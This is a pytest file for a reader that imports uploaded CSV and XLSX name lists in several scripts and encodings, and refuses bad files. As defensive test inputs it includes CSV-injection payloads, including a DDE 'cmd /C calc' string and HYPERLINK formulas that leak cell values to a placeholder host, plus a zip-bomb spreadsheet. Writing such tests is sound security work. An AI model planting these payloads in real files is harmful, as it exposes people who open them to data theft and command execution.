"""Reading lists: encodings, formulas, bad files; every refusal says why."""

import datetime
import io
import re
import zipfile
from typing import Any

import pytest
from openpyxl import Workbook  # type: ignore[import-untyped]

from qandas.matching.tables import TableError, read

pytestmark = pytest.mark.once

CYRILLIC = "name,birth_year,city\nАйбек Шарипов,1990,karachi\nНурлан Токтаров,1985,quetta\n"
ARABIC = "name;city\nشريفي محمد;karachi\nنورلان توختاروف;quetta\nعلي احمدي;\n"


def test_utf8_with_or_without_bom_and_header_names_normalised() -> None:
    for data in (CYRILLIC.encode(), b"\xef\xbb\xbf" + CYRILLIC.encode()):
        table = read(data)
        assert table.columns == ["name", "birth_year", "city"]
        assert table.rows[0] == (
            2,
            {"name": "Айбек Шарипов", "birth_year": "1990", "city": "karachi"},
        )
    assert read(b"Name,Birth Year\nA,1\n").columns == ["name", "birth_year"]


@pytest.mark.parametrize(
    ("header", "columns"),
    [
        ("Name,Father,CNIC No.", ["name", "father_name", "document_number"]),
        ("Name,S/O,Passport No", ["name", "father_name", "document_number"]),
        ("نام,ولدیت,شناختی کارڈ نمبر,شہر", ["name", "father_name", "document_number", "city"]),
        ("ФИО,Имя отца,Год рождения,Город", ["name", "father_name", "birth_year", "city"]),
        ("Ф.И.О.,Примечание", ["name", "примечание"]),
        ("Аты-жөні,Әкесінің аты,Туған жылы", ["name", "father_name", "birth_year"]),
        ("اسم,اسم الأب", ["name", "father_name"]),
        # Found by exploratory testing (14b): refused, or not used.
        (
            "Name of Accused,Father/Husband Name,Age,N.I.C No.",
            ["name", "father_name", "age", "document_number"],
        ),
        ("Фамилия Имя Отчество,Дата рождения", ["name", "birth_year"]),
        ("نام ملزم,عمر,Parentage (S/O - D/O - W/O)", ["name", "age", "father_name"]),
        ("Name,DOB", ["name", "birth_year"]),
        # Found by exploratory testing (15): not used.
        ("ФИО,Дата рождения (дд.мм.гггг)", ["name", "birth_year"]),
        ("Name [as on CNIC],Age (years),Remarks (if any)", ["name", "age", "remarks_if_any"]),
        # Its parts: joined as the name (``name_of_parts``).
        ("Фамилия,Имя,Отчество", ["name", "surname", "given_name", "patronymic"]),
    ],
)
def test_headers_in_a_lists_own_language_are_read_as_their_columns(
    header: str, columns: list[str]
) -> None:
    """Found by exploratory testing (13b): a police list's "Father" column was shown and
    never used for matching, and a list headed in Urdu or Russian had no "name"."""
    assert read(f"{header}\n{','.join(['x'] * header.count(','))},x\n".encode()).columns == columns


@pytest.mark.parametrize(("text", "encoding"), [(CYRILLIC, "cp1251"), (ARABIC, "cp1256")])
def test_legacy_encodings_are_detected(text: str, encoding: str) -> None:
    table = read(text.encode(encoding))
    assert table.encoding == encoding
    assert table.rows[0][1]["name"] == text.splitlines()[1].split(text[4])[0]


def test_a_legacy_file_too_short_to_tell_is_refused_unless_named() -> None:
    with pytest.raises(TableError, match="UTF-8"):
        read("name\nعلي\n".encode("cp1256"))
    assert read("name\nعلي\n".encode("cp1256"), encoding="cp1256").rows == [(2, {"name": "علي"})]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "empty"),
        (b"%PDF-1.7\x00\x01", "neither"),
        (b"\xd0\xcf\x11\xe0rest", ".xls"),
        (b"name\n=HYPERLINK(1)\n", "formula"),
        (b"name\n@SUM(A1)\n", "formula"),
        (b"name,name\nA,B\n", "twice"),
        (b"name\nA,B\n", "more cells"),
    ],
)
def test_bad_files_are_refused_with_a_reason(data: bytes, message: str) -> None:
    with pytest.raises(TableError, match=message):
        read(data)


def test_every_bad_cell_is_named_in_one_refusal() -> None:
    """One upload names them all (the first ten, then how many more), not the first."""
    rows = b"name,father_name\n=HYPERLINK(1),Serik\nAidos,@SUM(A1)\nBek,=1+1\n"
    with pytest.raises(TableError) as refusal:
        read(rows)
    message = str(refusal.value)
    assert "Line 2, column name" in message and "Line 3, column father_name" in message
    assert "Line 4, column father_name" in message and "more problem" not in message
    many = b"name\n" + b"".join(b"=A%d\n" % i for i in range(13))
    with pytest.raises(TableError, match=r"Line 11, column name .*And 3 more problems\.$") as more:
        read(many)
    assert "Line 12," not in str(more.value)
    with pytest.raises(TableError) as refusal:
        read(xlsx([["name", "year"], ["A", "=1+1"], ["=B2", "1990"]]))
    assert str(refusal.value) == (
        "Cell B2 is a formula. Type the value itself. Cell A3 is a formula. Type the value itself."
    )


def test_apostrophes_in_names_are_not_quotes() -> None:
    table = read(b"name,city\n'abd ar-rahman,karachi\nO'Neil,quetta\nB,x\n")
    assert [row["name"] for _line, row in table.rows] == ["'abd ar-rahman", "O'Neil", "B"]


def test_phone_numbers_and_blank_rows_are_not_formulas() -> None:
    table = read(b"name,phone\nA,+923001234567\n,\nB,-\n")
    assert [line for line, _row in table.rows] == [2, 4]


def xlsx(rows: list[list[object]]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    return saved(book)


def saved(book: Workbook) -> bytes:
    """The workbook as an XLSX file's bytes."""
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_xlsx_reads_the_first_sheet_and_refuses_formulas() -> None:
    table = read(xlsx([["Name", "Birth year"], ["Нұрлан", 1985], [None, None], ["شریفی", None]]))
    assert table.encoding == "xlsx"
    assert table.rows == [
        (2, {"name": "Нұрлан", "birth_year": "1985"}),
        (4, {"name": "شریفی", "birth_year": ""}),
    ]
    with pytest.raises(TableError, match="Cell B2 is a formula"):
        read(xlsx([["name", "year"], ["A", "=1+1"]]))


def test_a_formula_past_the_columns_read_is_refused_too() -> None:
    """Found by exploratory testing (10a): the list's sheet was read 51 columns wide, and
    a formula in column 52 was never looked at; the file, kept whole, was downloaded with
    it live (``=HYPERLINK("http://…?leak="&A2)``)."""
    book = Workbook()
    sheet = book.active
    sheet.append(["name", "birth_year"])
    sheet.append(["Akmaral Tursynova", 1986])
    sheet.cell(row=2, column=52, value='=HYPERLINK("http://example.invalid/?x="&A2)')
    sheet.cell(row=3, column=200, value="=1+1")
    sheet.cell(row=3, column=1, value="Aidos")
    sheet.cell(row=4, column=300, value="text, not a formula")
    sheet.cell(row=4, column=1, value="Bek")
    with pytest.raises(TableError) as refused:
        read(saved(book))
    assert str(refused.value) == (
        "Cell AZ2 is a formula, past the columns a list may have. Delete it, or save the list "
        "as CSV. Cell GR3 is a formula, past the columns a list may have. Delete it, or save "
        "the list as CSV."
    )
    sheet.cell(row=2, column=52).value = None
    sheet.cell(row=3, column=200).value = None
    assert [line for line, _row in read(saved(book)).rows] == [2, 3, 4]


def test_xlsx_dates_read_as_dates_and_times_of_day_are_kept() -> None:
    table = read(
        xlsx(
            [
                ["name", "arrested", "heard", "at"],
                [
                    "Нұрлан",
                    datetime.date(2026, 12, 1),
                    datetime.datetime(2026, 12, 1, 14, 30),
                    datetime.time(9, 15, 20),
                ],
            ]
        )
    )
    assert table.rows == [
        (
            2,
            {
                "name": "Нұрлан",
                "arrested": "2026-12-01",
                "heard": "2026-12-01 14:30",
                "at": "09:15:20",
            },
        )
    ]


def test_reading_stops_at_the_first_row_past_the_limit() -> None:
    """A caller's row limit is met as the rows are read, not after: a file of a million
    one-letter rows is refused with a few megabytes in use, not hundreds."""
    import tracemalloc

    assert len(read(b"name\nA\n\nB\n", max_rows=2).rows) == 2
    many = b"name\n" + b"a\n" * 1_000_000
    tracemalloc.start()
    try:
        with pytest.raises(TableError, match="more than 5,000 rows; the limit here is 5,000"):
            read(many, max_rows=5000)
        _size, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 40 * 2**20
    # Refused rows count, and so do empty ones past the limit (they cost as much to read).
    with pytest.raises(TableError, match="more than 2 rows"):
        read(b"name\n=A1\n=A2\n=A3\n", max_rows=2)
    with pytest.raises(TableError, match="more than 3 empty rows"):
        read(b"name\nA\n" + b",\n" * 10 + b"B\n", max_rows=3)
    assert len(read(b"name\n" + b"a\n" * 6000).rows) == 6000  # without a limit, every row


def rezipped(data: bytes, change: Any) -> bytes:
    """An XLSX file with its first sheet's XML changed by ``change``."""
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            body = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = change(body.decode()).encode()
            archive.writestr(info.filename, body)
    return out.getvalue()


def test_an_xlsx_unpacking_to_far_more_than_its_size_is_refused_unread() -> None:
    """A zip bomb: 40 KB that unpack to 400,000 rows (20 MB) is refused before openpyxl
    reads it; under a row limit, what a file may unpack to follows the limit too."""
    rows = '<row><c t="inlineStr"><is><t>a</t></is></c></row>' * 400_000
    bomb = rezipped(
        xlsx([["name"], ["b"]]), lambda s: s.replace("<sheetData>", "<sheetData>" + rows)
    )
    assert len(bomb) < 100_000
    for limit in (None, 5000):
        with pytest.raises(TableError, match="Unpacked, this spreadsheet would take more than"):
            read(bomb, max_rows=limit)
    named: list[list[object]] = [["name"]]
    named += ([f"Aibek {i}"] for i in range(30))
    many = xlsx(named)
    with pytest.raises(TableError, match="more than 10 rows"):
        read(many, max_rows=10)
    assert len(read(many, max_rows=30).rows) == 30


def test_an_xlsx_is_read_whatever_size_its_sheet_declares() -> None:
    """openpyxl takes a sheet's declared size for its size: a sheet declaring one cell
    lost every row, and one declaring the whole grid was padded to 16,384 columns. A row
    numbered past a sheet's last is a forged file."""
    data = xlsx([["name", "year"], ["Aibek", 1990], ["Nurlan", 1985]])
    for declared in ("A1:A1", "A1:XFD1048576"):
        table = read(rezipped(data, lambda s, d=declared: s.replace("A1:B3", d)))
        assert table.columns == ["name", "year"]
        assert table.rows == [
            (2, {"name": "Aibek", "year": "1990"}),
            (3, {"name": "Nurlan", "year": "1985"}),
        ]
    far = '<row r="2000000"><c t="inlineStr"><is><t>z</t></is></c></row></sheetData>'
    with pytest.raises(TableError, match="not a spreadsheet that can be read"):
        read(rezipped(data, lambda s: s.replace("</sheetData>", far)))


@pytest.mark.parametrize(
    "cell",
    [
        "-1+1",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "+A1",
        "-Aibek",
        "-Айбек",
        "- Aibek",
        "+92 300 1234567 (home)",
        '"\t=1+1"',
        '"\tAibek"',
        '"\r-1+1"',
        '" \t@SUM(A1)"',
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_is_refused(cell: str) -> None:
    with pytest.raises(TableError, match=r"Line 2, column phone looks like a spreadsheet formula"):
        read(f"name,phone\nAibek,{cell}\n".encode())


@pytest.mark.parametrize(
    "cell",
    [
        "+92 300 1234567",
        "+92-300-1234567",
        "+92 (300) 1234567",
        "+92 300 1234567; +92 321 7654321",
        '"+923001234567,+923217654321"',
        "-12",
        '"-1,5"',
        "-",
        "---",
        "Aibek-Serik",
        '"\t-12"',
    ],
)
def test_numbers_dashes_and_hyphenated_names_are_not_formulas(cell: str) -> None:
    table = read(f"name,phone\nAibek,{cell}\n".encode())
    assert table.rows[0][1]["phone"] == cell.strip('"').strip()


def test_array_and_data_table_formulas_and_formula_like_text_in_xlsx_are_refused() -> None:
    from openpyxl.worksheet.formula import (  # type: ignore[import-untyped]
        ArrayFormula,
        DataTableFormula,
    )

    book = Workbook()
    sheet = book.active
    for row in (["name", "x"], ["Aibek", None], ["Nurlan", None], ["-1+1", "+92 300 1234567"]):
        sheet.append(row)
    sheet["B2"] = ArrayFormula("B2:B2", "=SUM(1,2)")
    sheet["B3"] = DataTableFormula(ref="B3:B3", t="dataTable", r1="A1")
    with pytest.raises(TableError) as refusal:
        read(saved(book))
    assert str(refusal.value) == (
        "Cell B2 is a formula. Type the value itself. "
        "Cell B3 is a formula. Type the value itself. "
        "Line 4, column name looks like a spreadsheet formula (-1+1). Type the value itself."
    )
    assert "object at" not in str(refusal.value)


KAZAKH = "name,birth_year\nТұрсынова Ақмарал,1990\nНұрлан Тоқтаров,1985\nӘлия Серікқызы,1979\n"
RUSSIAN = "name,birth_year\nДаурен Алиев,1990\nНурлан Токтаров,1985\nБекзат Жумабаев,1979\n"
UKRAINIAN = "name,birth_year\nЄвгенія Ґалаган,1990\nОлексій Їжаков,1985\nІрина Шевчук,1979\n"


def test_a_kazakh_windows_file_is_read_as_kz1048_not_cp1251() -> None:
    """kz1048 is cp1251 but for its Kazakh letters, which cp1251 reads as Macedonian,
    Serbian or Belarusian ones: "Тұрсынова Ақмарал" was stored as "Тўрсынова Аќмарал"."""
    table = read(KAZAKH.encode("kz1048"))
    assert table.encoding == "kz1048"
    assert [row["name"] for _line, row in table.rows] == [
        "Тұрсынова Ақмарал",
        "Нұрлан Тоқтаров",
        "Әлия Серікқызы",
    ]
    assert read(RUSSIAN.encode("cp1251")).encoding == "cp1251"


@pytest.mark.parametrize(
    ("text", "encoding", "word"),
    [(RUSSIAN, "mac_cyrillic", "„аурен"), (UKRAINIAN, "cp1251", "Євгенія")],
    ids=["mac cyrillic", "ukrainian in cp1251"],
)
def test_a_file_that_reads_garbled_as_cp1251_is_refused_unless_its_encoding_is_named(
    text: str, encoding: str, word: str
) -> None:
    """A Mac Cyrillic file read as cp1251 has typographic marks and Serbian letters for
    capitals ("Даурен" comes out "„аурен"); a Ukrainian one in cp1251 cannot be told
    from kz1048 by its letters. Both are refused, naming a garbled word, and read as
    they are when their encoding is named."""
    with pytest.raises(TableError, match=f"garbled \\(“{word}”\\).*kz1048.*Mac Cyrillic"):
        read(text.encode(encoding))
    table = read(text.encode(encoding), encoding=encoding)
    assert table.rows[0][1]["name"] == text.splitlines()[1].split(",")[0]


def test_the_upload_form_offers_kazakh_and_mac_cyrillic() -> None:
    from qandas.matching.list_forms import ENCODINGS, ListUploadForm

    field = ListUploadForm.base_fields["encoding"]
    assert field.valid_value("kz1048") and field.valid_value("mac_cyrillic")  # type: ignore[attr-defined]
    for encoding, _label in ENCODINGS:
        if encoding:
            assert "x".encode(encoding)


@pytest.mark.parametrize("order", ["utf-16-le", "utf-16-be"])
def test_utf16_without_a_byte_order_mark_is_read_when_named(order: str) -> None:
    """Its NUL bytes made it "neither a CSV nor an XLSX spreadsheet" even when the user
    named UTF-16; the byte order is told by where they fall."""
    data = CYRILLIC.encode(order)
    # Said to be what it is (found by exploratory testing, 10a).
    with pytest.raises(TableError, match="looks like UTF-16 without its byte-order mark"):
        read(data)
    for named in ("utf_16", order):
        table = read(data, encoding=named)
        assert table.encoding == order
        assert table.rows[0] == (
            2,
            {"name": "Айбек Шарипов", "birth_year": "1990", "city": "karachi"},
        )
    with pytest.raises(TableError, match="looks like UTF-16 without its byte-order mark"):
        read(data, encoding="cp1251")


def test_headers_in_any_script_are_kept_and_the_pages_labels_read_as_their_columns() -> None:
    """``Column`` kept only a-z, digits and underscores: "Отец" and "Паспорт" were
    dropped with their cells, and "Father's name" read as father_s_name. (Those are now
    read as their columns: ``ALIASES``.)"""
    table = read("Район,Адрес,Примечание,ملاحظات\nАйбек,Saddar,N123,سریک\n".encode())
    assert table.columns == ["район", "адрес", "примечание", "ملاحظات"]
    assert table.rows[0][1] == {
        "район": "Айбек",
        "адрес": "Saddar",
        "примечание": "N123",
        "ملاحظات": "سریک",
    }
    from qandas.matching.lists import COLUMN_LABELS

    header = "Name," + ",".join(str(label) for label in COLUMN_LABELS.values())
    assert read(f"{header}\nAibek,,,,,,,\n".encode()).columns == ["name", *COLUMN_LABELS]
    assert read(b"Name,Father\xe2\x80\x99s name\nAibek,Serik\n").columns == ["name", "father_name"]
    assert read(b"\xef\xbb\xbfname\nAibek\n", encoding="utf-8").columns == ["name"]
    with pytest.raises(TableError, match="twice: “Name”, “name”"):
        read(b"Name,father_name,name\nA,B,C\n")
    # A header read as a column the row names already is a column of its own (found by
    # exploratory testing, 14a: these were refused as columns named twice).
    for header, columns in (
        ("name,father_name,Father's name", ["name", "father_name", "fathers_name"]),
        ("Name,Full name", ["name", "full_name"]),
        ("Full name,Name", ["full_name", "name"]),
        ("Name,نام", ["name", "نام"]),
        ("Name,CNIC No.,Passport No.", ["name", "document_number", "passport_no"]),
        ("Name,Passport,Паспорт", ["name", "passport", "паспорт"]),  # may hold no number
    ):
        assert (
            read(f"{header}\n{','.join(['x'] * header.count(','))},x\n".encode()).columns == columns
        )


def test_the_list_page_names_the_columns_of_a_list_without_a_name_column() -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    from qandas.matching.lists import clean_list_file

    uploaded = SimpleUploadedFile("list.csv", "Район,Город\nАйбек Шарипов,Карачи\n".encode())
    with pytest.raises(TableError, match="Its columns are: район, city"):
        clean_list_file(uploaded)


def test_headers_unnamed_columns_and_control_characters_are_checked_too() -> None:
    """The file is kept and served back whole: a formula in its header, or in a column
    with no name (not read), is refused as one in a named column is; so is a control
    character anywhere (PostgreSQL stores no NUL), however far into the file."""
    problems = {
        "name,=HYPERLINK(1)\nAibek,x\n": "The header's cell 2 looks like a spreadsheet formula",
        "@SUM(1),name\nx,Aibek\n": "The header's cell 1 looks like a spreadsheet formula",
        "name,,city\nAibek,=cmd|' /C calc'!A0,karachi\n": "Line 2, column 2 looks like a",
        "name,document_number\n" + "Aibek,1\n" * 2000 + "Dana,AB\x00123\n": (
            "Line 2002, column document_number holds a control character (U+0000)"
        ),
        "name\nDa\x1b[31mna\n": "Line 2, column name holds a control character (U+001B)",
    }
    for text, message in problems.items():
        with pytest.raises(TableError, match=re.escape(message)):
            read(text.encode())
    # A tab, a line end or a carriage return inside a quoted cell is no control character.
    assert read(b'name,notes\nAibek,"one\r\ntwo\tthree"\n').rows[0][1]["notes"] == (
        "one\r\ntwo\tthree"
    )


def test_every_sheet_is_checked_for_formulas_and_the_first_shown_one_is_read() -> None:
    book = Workbook()
    book.active.append(["name"])
    book.active.append(["Aibek"])
    notes = book.create_sheet("Notes")
    notes.append(["a note", '=HYPERLINK("http://example.invalid/","x")'])
    with pytest.raises(TableError, match="Sheet “Notes”, cell B1 is a formula"):
        read(saved(book))
    # A hidden first sheet is not the list a person opening the file sees.
    book = Workbook()
    book.active.title = "Hidden"
    book.active.append(["name"])
    book.active.append(["Not this one"])
    book.active.sheet_state = "hidden"
    shown = book.create_sheet("List")
    shown.append(["name"])
    shown.append(["Dana Seitova"])
    book.active = 1
    assert read(saved(book)).rows == [(2, {"name": "Dana Seitova"})]


@pytest.mark.parametrize(
    "change",
    [
        lambda xml: xml[: len(xml) // 2],  # cut short
        lambda xml: xml.replace("<v>", "<v>x"),  # a number that is none
        lambda xml: xml.replace('r="A2"', 'r="ZZZZZ2"'),
        lambda xml: xml.replace('t="n"><v>1990', 't="d"><v>x'),  # a date that is none
    ],
    ids=["cut-short", "bad-number", "bad-column", "bad-date"],
)
def test_a_sheet_openpyxl_cannot_read_to_the_end_is_refused_as_unreadable(change: Any) -> None:
    data = xlsx([["name", "birth_year"], ["Aibek", 1990], ["Dana", 1991]])
    with pytest.raises(TableError, match="The file is not a spreadsheet that can be read"):
        read(rezipped(data, change))


def test_a_formula_in_a_headers_last_cell_is_the_one_problem_named() -> None:
    """Blanked, the formula dropped its column, and the row under it was said to have
    more cells than the header."""
    data = xlsx([["name", '=HYPERLINK("http://x","birth_year")'], ["Kanat Zhumabekov", 1984]])
    with pytest.raises(TableError) as refused:
        read(data)
    assert str(refused.value) == "Cell B1 is a formula. Type the value itself."


# Found by exploratory testing (10a) ----------------------------------------------------


def test_a_column_without_a_name_that_holds_values_is_refused() -> None:
    """A blank header cell, or a spreadsheet's header merged over given name and family
    name, lost the column's values unsaid: people were imported as "Merged" for
    "Merged Surnamova", and lists were matched on half the name."""
    with pytest.raises(TableError) as refused:
        read(b"name,,city\nBlank,Hdrova,karachi\nSecond,,quetta\n")
    assert str(refused.value) == (
        "Column 2 has no name in the header, but holds values (line 2: “Hdrova”). "
        "Name the column, or delete it."
    )
    book = Workbook()
    sheet = book.active
    for row in (["name", None, "city"], ["Merged", "Surnamova", "karachi"]):
        sheet.append(row)
    sheet.merge_cells("A1:B1")
    with pytest.raises(TableError, match=r"Column B has no name in the header, .*“Surnamova”"):
        read(saved(book))
    # An empty column without a name is no loss.
    assert read(b"name,,city\nBlank,,karachi\n").rows == [(2, {"name": "Blank", "city": "karachi"})]
    # Nor is a column named by symbols alone, numbering the rows (found by exploratory
    # testing, 11a: "#" was refused as a column without a name).
    assert read(b"#,name\n1,Aidos\n2,Bek\n").rows == [
        (2, {"name": "Aidos"}),
        (3, {"name": "Bek"}),
    ]


def test_a_utf8_file_read_as_a_code_page_named_is_refused() -> None:
    data = "name,father_name\nآقمرال تورسینوا,بولات\n".encode()
    for named in ("cp1256", "koi8_r", "cp1251"):
        with pytest.raises(TableError, match=f"The file is in UTF-8, not {named}"):
            read(data, encoding=named)
    assert read(data, encoding="utf-8").rows[0][1]["name"] == "آقمرال تورسینوا"
    assert read(b"name\nAidos\n", encoding="cp1251").rows == [(2, {"name": "Aidos"})]  # ASCII


def test_a_header_too_wide_is_refused_before_its_cells_are_checked(monkeypatch: Any) -> None:
    """A header of millions of cells was checked cell by cell (a minute, a gigabyte)
    before "more than 50 columns"."""
    from qandas.matching import tables

    checked: list[tuple[Any, ...]] = []
    real = tables._check_cell

    def counted(*args: Any) -> None:
        checked.append(args)
        real(*args)

    monkeypatch.setattr(tables, "_check_cell", counted)
    with pytest.raises(TableError, match="more than 50 columns"):
        read(b"name," + b"=a," * 100_000 + b"\nAidos\n")
    assert checked == []


def test_messages_say_what_is_wrong_with_the_encoding_and_where(tmp_path: Any) -> None:
    from qandas.matching.tables import read_path

    # UTF-32 with its mark: read, not refused as UTF-16 with NULs in "n_a_m_e".
    assert read(CYRILLIC.encode("utf-32")).rows[0][1]["name"] == "Айбек Шарипов"
    # One stray byte of a code page in a UTF-8 file: its line.
    stray = CYRILLIC.encode() + "Дана Сеитова,1991,karachi\n".encode() + b"Bek \x96 Ali,1990,\n"
    with pytest.raises(TableError, match=r"UTF-8, but line 5 holds a byte that is not \(0x96"):
        read(stray)
    # A NUL byte in the first 4 KB is named with its line, as one further on is.
    with pytest.raises(
        TableError, match=r"Line 3, column name holds a control character \(U\+0000\)"
    ):
        read(b"name,city\nAidos,karachi\nBe\x00k,quetta\n" + b"Dana,karachi\n" * 20)
    with pytest.raises(TableError, match=r"^Line 2: a cell is too long\.$"):
        read(b"name\n" + b"a" * 200_000 + b"\n")
    with pytest.raises(TableError, match="is not a file"):
        read_path(tmp_path)


def test_a_name_in_parts_is_joined_given_name_first() -> None:
    """Found by exploratory testing (14b): an embassy list giving "Фамилия", "Имя" and
    "Отчество" in columns of their own was refused for want of a name column."""
    table = read(
        "Фамилия,Имя,Отчество,Год рождения\nОмаров,Ерлан,Канатович,1990\n,Айдос,,\n".encode()
    )
    assert [cells["name"] for _line, cells in table.rows] == ["Ерлан Омаров Канатович", "Айдос"]
    assert read(b"Name,Surname\nA B,B\n").rows[0][1]["name"] == "A B"  # a name column stands
